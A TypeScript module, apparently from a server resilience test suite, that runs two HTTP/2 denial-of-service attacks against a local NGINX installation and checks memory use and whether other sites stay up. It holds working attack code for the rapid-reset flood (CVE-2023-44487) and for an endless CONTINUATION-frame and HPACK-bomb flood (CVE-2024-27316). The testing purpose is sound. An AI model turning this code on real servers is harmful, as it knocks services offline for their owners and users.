import http2 from 'node:http2';
import tls from 'node:tls';

import { type Attack, outcome } from './attack.ts';
import { Customer } from './customer.ts';
import { processesNow, statusField } from './processes.ts';
import type { World } from './world.ts';

/** Memory of all of NGINX of this installation, in megabytes. */
function edgeMegabytes(world: World): number {
  const own = processesNow().filter(
    ({ argv, cwd }) =>
      argv.some((word) => word.includes('nginx')) &&
      (cwd.startsWith(world.box.folder) ||
        argv.join(' ').includes(world.box.folder) ||
        argv[0]?.startsWith('nginx:') === true),
  );
  const kilobytes = own.map(({ pid }) => Number.parseInt(statusField(pid, 'RssAnon') ?? '0', 10));
  return kilobytes.reduce((sum, each) => sum + each, 0) / 1024;
}

/** CVE-2023-44487, with a bounded number of streams. */
export const rapidReset: Attack = {
  name: 'HTTP/2 rapid reset',
  who: 'visitor',
  how: '5 connections that open 2,000 streams each and reset every one at once',
  promise: 'the neighbour’s visitors are answered, and the site’s own as soon as it is over',
  async run(world) {
    const { mallory, neighbour, box } = world;
    const customer = new Customer(box.ports.https, neighbour.domain);
    customer.begin('/health/');
    let closed = 0;
    const one = (): Promise<void> =>
      new Promise((resolve) => {
        const session = http2.connect(`https://${mallory.domain}:${box.ports.https}`, {
          createConnection: () =>
            tls.connect({
              host: '127.0.0.1',
              port: box.ports.https,
              servername: mallory.domain,
              rejectUnauthorized: false,
              ALPNProtocols: ['h2'],
            }),
        });
        const end = (): void => {
          session.destroy();
          resolve();
        };
        session.once('error', end);
        session.once('goaway', () => (closed += 1));
        session.once('close', end);
        session.once('connect', () => {
          let left = 2000;
          const more = (): void => {
            for (let count = 0; count < 100 && left > 0; count += 1, left -= 1) {
              if (session.closed || session.destroyed) return end();
              const stream = session.request({
                ':path': '/slow/',
                ':authority': `${mallory.domain}:${box.ports.https}`,
              });
              stream.on('error', () => undefined);
              stream.close(http2.constants.NGHTTP2_CANCEL);
            }
            if (left > 0) setImmediate(more);
            else setTimeout(end, 1000);
          };
          more();
        });
      });
    await Promise.all(Array.from({ length: 5 }, one));
    const { asked, failed, worstMs } = await customer.end();
    const own = await world.get(mallory, '/health/');
    const wrong = failed.map((why) => `the neighbour: ${why}`);
    if (own.status !== 200 && own.status !== 429) wrong.push(`afterwards the site answers ${own.status}`);
    return outcome(
      wrong,
      `10,000 streams, ${closed} connections refused or sent away; 0 of ${asked} requests to the neighbour failed, the slowest took ${(worstMs / 1000).toFixed(1)} s`,
    );
  },
};

/** CVE-2024-27316 and its kind: one header block without an end. */
export const endlessHeaders: Attack = {
  name: 'HTTP/2 headers without an end',
  who: 'visitor',
  how: '20 connections with up to 8 MB of CONTINUATION frames each, none the last, and an index bomb in HPACK',
  promise: 'NGINX takes no more than 64 MB for it, and answers others',
  async run(world) {
    const { mallory, box } = world;
    const before = edgeMegabytes(world);
    let most = before;
    let sent = 0;
    let away = 0;
    const frame = (type: number, flags: number, stream: number, payload: Buffer): Buffer => {
      const head = Buffer.alloc(9);
      head.writeUIntBE(payload.length, 0, 3);
      head[3] = type;
      head[4] = flags;
      head.writeUInt32BE(stream, 5);
      return Buffer.concat([head, payload]);
    };
    // A literal header with indexing, then the same by its index as often as a frame holds.
    const literal = Buffer.concat([Buffer.from([0x40, 1, 0x78, 0x7f, 0xa1, 0x1e]), Buffer.alloc(4000, 97)]);
    const block = Buffer.concat([literal, Buffer.alloc(8000, 0xbe)]);
    const one = (): Promise<void> =>
      new Promise((resolve) => {
        const socket = tls.connect({
          host: '127.0.0.1',
          port: box.ports.https,
          servername: mallory.domain,
          rejectUnauthorized: false,
          ALPNProtocols: ['h2'],
        });
        socket.on('error', () => undefined);
        socket.once('close', () => resolve());
        socket.setTimeout(5000, () => socket.destroy());
        socket.on('data', (data: Buffer) => (away += hasRefusal(data) ? 1 : 0));
        socket.once('secureConnect', () => {
          socket.write(
            Buffer.concat([
              Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'),
              frame(4, 0, 0, Buffer.alloc(0)),
              frame(1, 0, 1, Buffer.from([0x82, 0x84, 0x87])),
            ]),
          );
          let left = 700;
          const more = (): void => {
            while (left > 0 && !socket.destroyed) {
              sent += 1;
              left -= 1;
              if (!socket.write(frame(9, 0, 1, block))) {
                socket.once('drain', more);
                return;
              }
            }
            socket.end();
          };
          more();
        });
      });
    const timer = setInterval(() => (most = Math.max(most, edgeMegabytes(world))), 100);
    await Promise.all(Array.from({ length: 20 }, one));
    clearInterval(timer);
    const own = await world.get(mallory, '/health/');
    const wrong = most - before > 64 ? [`NGINX took ${(most - before).toFixed(0)} MB more`] : [];
    if (own.status !== 200) wrong.push(`afterwards the site answers ${own.status}`);
    return outcome(
      wrong,
      `${sent} frames sent, ${away} of 20 connections refused or sent away; NGINX took ${(most - before).toFixed(0)} MB more`,
    );
  },
};

/** Whether an answer, a RST_STREAM or a GOAWAY is among the frames. */
function hasRefusal(data: Buffer): boolean {
  for (let at = 0; at + 9 <= data.length; at += 9 + data.readUIntBE(at, 3))
    if (data[at + 3] === 7 || data[at + 3] === 3 || data[at + 3] === 1) return true;
  return false;
}
